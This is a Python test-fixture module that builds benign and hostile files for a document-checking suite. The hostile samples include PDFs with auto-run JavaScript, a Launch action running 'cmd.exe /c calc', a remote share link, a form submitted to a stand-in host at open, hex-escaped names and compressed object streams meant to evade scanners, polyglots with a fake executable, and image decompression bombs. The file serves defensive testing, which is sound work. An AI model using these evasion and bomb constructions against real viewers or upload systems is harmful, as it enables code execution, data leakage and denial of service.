"""Files for the document checks, built in memory.

Valid PDFs come from pypdf's writer or from :func:`raw_pdf`, which writes objects and a classic
cross-reference table by hand (so names can be hex-escaped exactly as an attacker would write them);
:func:`pdf_with_object_stream` writes a PDF 1.5 whose objects sit in a zlib-compressed object stream
indexed by a cross-reference stream. Images are encoded here too: :func:`jpeg` writes a real baseline
JPEG (one grey component, one-symbol Huffman tables, every byte of the scan below 0x40 so no byte
stuffing is needed) and :func:`png` a real PNG.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Mapping

from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, NameObject, TextStringObject

A4 = (595, 842)

# --- PDF: pypdf-made ----------------------------------------------------------------------------------


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_blank(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(*A4)
    return _written(writer)


def pdf_with_benign_actions() -> bytes:
    """Things ordinary letters have: open at page 1 (an /OpenAction that is a destination), a web link,
    a go-to link, metadata. None of them is active content."""
    writer = PdfWriter()
    writer.add_blank_page(*A4)
    writer.add_blank_page(*A4)
    writer.root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )
    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://lkpp.go.id"))
    writer.add_annotation(0, Link(rect=(50, 100, 200, 130), target_page_index=1))
    writer.add_metadata({"/Title": "Surat Tugas", "/Author": "Dinas"})
    return _written(writer)


def _javascript_action(writer: PdfWriter) -> IndirectObject:
    action = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.launchURL('https://contoh.invalid');"),
        }
    )
    return writer._add_object(action)


def pdf_with_javascript() -> bytes:
    """Document-level JavaScript in the /Names tree (``/Names << /JavaScript << /Names [...] >> >>``)."""
    writer = PdfWriter()
    writer.add_blank_page(*A4)
    scripts = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), _javascript_action(writer)])}
    )
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): scripts})
    return _written(writer)


def pdf_with_open_action_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(*A4)
    writer.root_object[NameObject("/OpenAction")] = _javascript_action(writer)
    return _written(writer)


def pdf_with_page_additional_action_javascript() -> bytes:
    """A page's /AA (additional actions) running JavaScript when the page opens."""
    writer = PdfWriter()
    writer.add_blank_page(*A4)
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _javascript_action(writer)})
    return _written(writer)


def pdf_with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(*A4)
    writer.add_attachment("lampiran.exe", b"MZ\x90\x00 not really a program")
    return _written(writer)


def pdf_encrypted(user_password: str = "rahasia", algorithm: str = "RC4-128") -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(*A4)
    writer.encrypt(user_password=user_password, owner_password="pemilik", algorithm=algorithm)
    return _written(writer)


# --- PDF: written by hand -------------------------------------------------------------------------------


def stream_object(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), dictionary) + data + b"\nendstream"


def raw_pdf(
    objects: Mapping[int, bytes], *, root: int = 1, version: bytes = b"1.4", prefix: bytes = b""
) -> bytes:
    """A PDF of the given objects (number → body) with a classic cross-reference table."""
    out = bytearray(prefix + b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    xref_at = len(out)
    out += b"xref\n0 %d\n" % size
    out += b"0000000000 65535 f \n"
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref_at)
    return bytes(out)


def letter_objects(
    catalog_extra: bytes = b"", page_extra: bytes = b"", text: bytes = b"Surat Tugas"
) -> dict[int, bytes]:
    """Catalog (1), pages (2), one A4 page (3) with a line of text (4) in Helvetica (5)."""
    content = b"BT /F1 12 Tf 72 770 Td (" + text + b") Tj ET"
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b" >>",
        4: stream_object(content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def pdf_letter() -> bytes:
    return raw_pdf(letter_objects())


def pdf_with_action(action: bytes, *, where: str = "open") -> bytes:
    """A letter whose catalog /OpenAction (``where="open"``) or page link (``where="link"``) is ``action``."""
    if where == "open":
        objects = letter_objects(catalog_extra=b"/OpenAction 6 0 R")
    else:
        objects = letter_objects(page_extra=b"/Annots [7 0 R]")
        objects[7] = b"<< /Type /Annot /Subtype /Link /Rect [50 50 200 80] /Border [0 0 0] /A 6 0 R >>"
    objects[6] = action
    return raw_pdf(objects)


def pdf_with_escaped_javascript() -> bytes:
    """JavaScript at open with every telling name hex-escaped: ``/J#61vaScript``, ``/J#53``.

    The bytes contain neither ``JavaScript`` nor ``/JS``: only a parser that decodes names finds it."""
    return pdf_with_action(b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")


def pdf_with_escaped_names_tree() -> bytes:
    """Document-level JavaScript through ``/Names << /J#61v#61Script ... >>`` with an escaped ``/J#53``."""
    objects = letter_objects(catalog_extra=b"/Names << /J#61v#61Script 6 0 R >>")
    objects[6] = b"<< /Names [(init) 7 0 R] >>"
    objects[7] = b"<< /S /J#61vaScript /J#53 (this.print\\(\\)) >>"
    return raw_pdf(objects)


def pdf_with_launch() -> bytes:
    return pdf_with_action(
        b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
    )


def pdf_with_remote_goto() -> bytes:
    return pdf_with_action(
        b"<< /S /GoToR /F (\\\\\\\\10.0.0.1\\\\share\\\\x.pdf) /D [0 /Fit] >>", where="link"
    )


def pdf_with_javascript_uri() -> bytes:
    return pdf_with_action(b"<< /S /URI /URI (  JavaScript:app.alert\\(1\\)) >>", where="link")


def pdf_with_web_link() -> bytes:
    return pdf_with_action(b"<< /S /URI /URI (https://e-katalog.lkpp.go.id) >>", where="link")


def pdf_with_indirect_action_name() -> bytes:
    """A Launch action whose /S is a reference to a name object holding ``/Launch``."""
    objects = letter_objects(catalog_extra=b"/OpenAction 6 0 R")
    objects[6] = b"<< /S 7 0 R /F (cmd.exe) >>"
    objects[7] = b"/Launch"
    return raw_pdf(objects)


def pdf_with_unlisted_javascript(*, free_entry: bool) -> bytes:
    """An OpenAction JavaScript object (6) present in the file but left out of the cross-reference
    table: either marked free (``free_entry``) or beyond the table's /Size. pypdf, like a viewer
    repairing the file, still finds it by its ``6 0 obj`` header."""
    objects = letter_objects(catalog_extra=b"/OpenAction 6 0 R")
    objects[6] = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    data = raw_pdf(objects)
    head, _, _ = data.partition(b"xref\n")
    listed = range(1, 7) if free_entry else range(1, 6)
    rows = b"".join(
        b"%010d 00000 n \n" % (head.index(b"\n%d 0 obj" % number) + 1)
        if (number, free_entry) != (6, True)
        else b"0000000000 65535 f \n"
        for number in listed
    )
    size = len(listed) + 1
    table = b"xref\n0 %d\n0000000000 65535 f \n" % size + rows
    trailer = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(head))
    return head + table + trailer


def pdf_with_dangling_references(count: int) -> bytes:
    """A benign letter whose page points at ``count`` objects that exist nowhere (a sloppy producer)."""
    missing = b" ".join(b"%d 0 R" % (100 + index) for index in range(count))
    return raw_pdf(letter_objects(page_extra=b"/PieceInfo [" + missing + b"]"))


def pdf_with_misplaced_objects(count: int) -> bytes:
    """A benign letter with ``count`` extra objects whose cross-reference offsets point at another
    object's header (the page's), so pypdf reads ``3 0 obj`` where it expects ``6 0 obj`` and has to
    find each one by scanning the file."""
    objects = letter_objects(
        page_extra=b"/PieceInfo [" + b" ".join(b"%d 0 R" % (6 + i) for i in range(count)) + b"]"
    )
    for index in range(count):
        objects[6 + index] = b"<< /Private %d >>" % index
    head, _, table = raw_pdf(objects).partition(b"xref\n")
    rows = table.split(b"\n")  # rows[0] is "0 N", rows[n + 1] the entry of object n
    for number in range(6, 6 + count):
        rows[number + 1] = rows[3 + 1]
    return head + b"xref\n" + b"\n".join(rows)


def pdf_with_xfa() -> bytes:
    objects = letter_objects(catalog_extra=b"/AcroForm << /Fields [] /XFA 6 0 R >>")
    objects[6] = stream_object(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    return raw_pdf(objects)


def pdf_without_pages() -> bytes:
    objects = letter_objects()
    objects[2] = b"<< /Type /Pages /Kids [] /Count 0 >>"
    del objects[3], objects[4], objects[5]
    return raw_pdf(objects)


def pdf_with_object_stream(action: bytes | None) -> bytes:
    """A PDF 1.5 whose catalog, page tree, page, font and (when given) OpenAction dictionary sit in one
    Flate-compressed object stream (7), indexed by a Flate-compressed cross-reference stream (8)."""
    inner: dict[int, bytes] = {
        1: b"<< /Type /Catalog /Pages 2 0 R" + (b" /OpenAction 6 0 R" if action else b"") + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    if action is not None:
        inner[6] = action
    numbers = sorted(inner)
    bodies = b""
    header_parts = []
    for number in numbers:
        header_parts.append(b"%d %d" % (number, len(bodies)))
        bodies += inner[number] + b"\n"
    header = b" ".join(header_parts) + b"\n"
    packed = zlib.compress(header + bodies)

    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    offsets[4] = len(out)
    out += b"4 0 obj\n" + stream_object(b"BT /F1 12 Tf 72 770 Td (Surat) Tj ET") + b"\nendobj\n"
    offsets[7] = len(out)
    out += (
        b"7 0 obj\n"
        + stream_object(
            packed, b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(numbers), len(header))
        )
        + b"\nendobj\n"
    )
    offsets[8] = len(out)
    size = 9
    rows = bytearray()
    for number in range(size):
        if number == 0:
            rows += struct.pack(">BIH", 0, 0, 0xFFFF)
        elif number in inner:
            rows += struct.pack(">BIH", 2, 7, numbers.index(number))
        elif number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        else:
            rows += struct.pack(">BIH", 0, 0, 0)
    xref = zlib.compress(bytes(rows))
    out += (
        b"8 0 obj\n"
        + stream_object(xref, b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode" % size)
        + b"\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[8]
    return bytes(out)


def pdf_with_javascript_in_object_stream() -> bytes:
    """The OpenAction JavaScript exists only inside the compressed object stream: the file's bytes
    contain neither ``JavaScript`` nor ``/JS``."""
    return pdf_with_object_stream(b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>")


# --- PDF: actions run without a click -------------------------------------------------------------------

#: The trigger of an /AA entry on each kind of owner: the page opens, the document is about to close, the
#: pointer enters the annotation.
_AA_TRIGGER = {"page": b"/O", "document": b"/WC", "annotation": b"/E"}


def pdf_with_additional_action(action: bytes, *, on: str = "page", indirect: bool = False) -> bytes:
    """A letter whose page (``on="page"``), catalog (``"document"``) or link annotation (``"annotation"``)
    has an /AA (additional actions) dictionary running ``action`` (object 6) on its trigger, which needs
    no click. ``indirect`` puts the /AA dictionary in an object of its own (8)."""
    entry = b"<< " + _AA_TRIGGER[on] + b" 6 0 R >>"
    additional = b"/AA 8 0 R" if indirect else b"/AA " + entry
    if on == "page":
        objects = letter_objects(page_extra=additional)
    elif on == "document":
        objects = letter_objects(catalog_extra=additional)
    else:
        objects = letter_objects(page_extra=b"/Annots [7 0 R]")
        objects[7] = b"<< /Type /Annot /Subtype /Link /Rect [50 50 200 80] " + additional + b" >>"
    objects[6] = action
    if indirect:
        objects[8] = entry
    return raw_pdf(objects)


def pdf_with_chained_open_action(following: bytes) -> bytes:
    """An /OpenAction that shows page 1 (object 6), then runs ``following`` (object 7) through /Next."""
    objects = letter_objects(catalog_extra=b"/OpenAction 6 0 R")
    objects[6] = b"<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>"
    objects[7] = following
    return raw_pdf(objects)


def pdf_with_open_action_chain(length: int) -> bytes:
    """An /OpenAction of ``length`` page-1 actions, each an object of its own chained to the next."""
    objects = letter_objects(catalog_extra=b"/OpenAction 6 0 R")
    for index in range(length):
        following = b" /Next %d 0 R" % (7 + index) if index < length - 1 else b""
        objects[6 + index] = b"<< /S /GoTo /D [3 0 R /Fit]" + following + b" >>"
    return raw_pdf(objects)


def pdf_with_looping_open_action() -> bytes:
    """Two page-1 actions chained to each other through /Next: a cycle a checker must not follow forever."""
    objects = letter_objects(catalog_extra=b"/OpenAction 6 0 R")
    objects[6] = b"<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>"
    objects[7] = b"<< /S /Named /N /FirstPage /Next [6 0 R 7 0 R] >>"
    return raw_pdf(objects)


def pdf_with_escaped_open_action() -> bytes:
    """``/Open#41ction`` running ``/#53ubmitForm``: the bytes contain neither ``OpenAction`` nor
    ``SubmitForm``; only a parser that decodes names finds the form sent away at open."""
    objects = letter_objects(catalog_extra=b"/Open#41ction 6 0 R")
    objects[6] = b"<< /S /#53ubmitForm /F << /FS /URL /F (https://contoh.invalid/kirim) >> /Flags 4 >>"
    return raw_pdf(objects)


def pdf_with_escaped_additional_action() -> bytes:
    """A page ``/A#41`` (/AA) whose page-open action is ``/Imp#6frtD#61ta``: neither ``/AA`` nor
    ``ImportData`` is in the bytes."""
    objects = letter_objects(page_extra=b"/A#41 << /#4f 6 0 R >>")
    objects[6] = b"<< /S /Imp#6frtD#61ta /F (data.fdf) >>"
    return raw_pdf(objects)


def pdf_behind_html(header_at: int = 60) -> bytes:
    """A letter behind an HTML page with a script, padded so that ``%PDF-`` starts at byte ``header_at``:
    a browser sniffing the first bytes sees HTML, a lenient PDF reader finds the PDF."""
    page = b"<html><script>alert(document.domain)</script>"
    return raw_pdf(letter_objects(), prefix=page.ljust(header_at, b" "))


# --- archives in disguise -------------------------------------------------------------------------------


def zip_archive() -> bytes:
    """The same bytes on every call: entries carry a fixed time, not the clock's (test ids are built from
    these bytes, and parallel workers must collect the same ids)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in (
            ("surat.docm", b"PK macro document " * 50),
            ("jalankan.exe", b"MZ\x90\x00" + bytes(200)),
        ):
            archive.writestr(
                zipfile.ZipInfo(name, date_time=(2026, 1, 5, 9, 0, 0)), data, zipfile.ZIP_DEFLATED
            )
    return out.getvalue()


def zip_with_pdf_header() -> bytes:
    """A ZIP with ``%PDF-1.7`` in front: still a ZIP to every unzip tool."""
    return b"%PDF-1.7\n" + zip_archive()


def pdf_with_zip_appended() -> bytes:
    """A valid PDF that is also a valid ZIP (a polyglot)."""
    return pdf_letter() + zip_archive()


# --- JPEG -----------------------------------------------------------------------------------------------


def _segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def jpeg_frame(width: int, height: int) -> bytes:
    """A baseline start-of-frame segment for one 8-bit grey component."""
    return _segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")


def jpeg(
    width: int = 8,
    height: int = 8,
    *,
    seed: int = 0,
    exif_thumbnail: bytes | None = None,
    declared: tuple[int, int] | None = None,
    scan: bytes | None = None,
) -> bytes:
    """A real baseline JPEG of ``width`` × ``height`` grey pixels, 64 bytes of scan per 8×8 block.

    Both Huffman tables hold one symbol (category 6) with the 2-bit code ``00``, so each coefficient is
    ``00`` plus 6 value bits: exactly one byte below 0x40. The DC differences alternate +32/-32 and the AC
    values are random, which gives a noisy picture and a scan that does not compress. ``declared``
    writes other dimensions in the frame header (a bomb); ``scan`` replaces the scan data;
    ``exif_thumbnail`` is put in an APP1 segment, as cameras store their thumbnails.
    """
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    if scan is None:
        values = random.Random(seed).randbytes(blocks * 63).translate(bytes(b & 0x3F for b in range(256)))
        body = bytearray()
        for block in range(blocks):
            body.append(0x20 if block % 2 == 0 else 0x1F)  # +32 then -32: the DC stays in range
            body += values[block * 63 : (block + 1) * 63]
        scan = bytes(body)
    frame_width, frame_height = declared or (width, height)
    one_symbol_table = bytes([0, 1] + [0] * 14) + b"\x06"  # one code of length 2 for category 6
    parts = [
        b"\xff\xd8",
        _segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"),
    ]
    if exif_thumbnail is not None:
        parts.append(_segment(0xE1, b"Exif\x00\x00" + exif_thumbnail))
    parts += [
        _segment(0xDB, b"\x00" + bytes([1] * 64)),
        jpeg_frame(frame_width, frame_height),
        _segment(0xC4, b"\x00" + one_symbol_table),
        _segment(0xC4, b"\x10" + one_symbol_table),
        _segment(0xDA, b"\x01\x01\x00\x00\x3f\x00"),
        scan,
        b"\xff\xd9",
    ]
    return b"".join(parts)


def jpeg_bomb(width: int = 65_000, height: int = 65_000) -> bytes:
    """Frame header declaring a huge image, with the scan of a tiny one."""
    return jpeg(8, 8, declared=(width, height))


# --- PNG ------------------------------------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_header(width: int, height: int, depth: int = 8, colour: int = 2) -> bytes:
    return PNG_SIGNATURE + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))


def png(width: int = 1, height: int = 1) -> bytes:
    """A real RGB PNG of one colour."""
    row = b"\x00" + b"\x1f\x6f\xb4" * width
    return (
        png_header(width, height) + png_chunk(b"IDAT", zlib.compress(row * height)) + png_chunk(b"IEND", b"")
    )


def png_bomb_declared(width: int = 100_000, height: int = 100_000) -> bytes:
    """A huge IHDR with a few bytes of image data: a decoder allocates for the header first."""
    return png_header(width, height) + png_chunk(b"IDAT", zlib.compress(bytes(64))) + png_chunk(b"IEND", b"")


def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A real decompression bomb: 1-bit grey, all zero, complete. 20,000² pixels (400 MP, 50 MB of
    filtered rows) compress to about 50 KB."""
    row = bytes(1 + (width + 7) // 8)
    packer = zlib.compressobj(9)
    data = bytearray()
    rows_per_chunk = max(1, (1 << 20) // len(row))
    for start in range(0, height, rows_per_chunk):
        data += packer.compress(row * min(rows_per_chunk, height - start))
    data += packer.flush()
    return (
        png_header(width, height, depth=1, colour=0)
        + png_chunk(b"IDAT", bytes(data))
        + png_chunk(b"IEND", b"")
    )
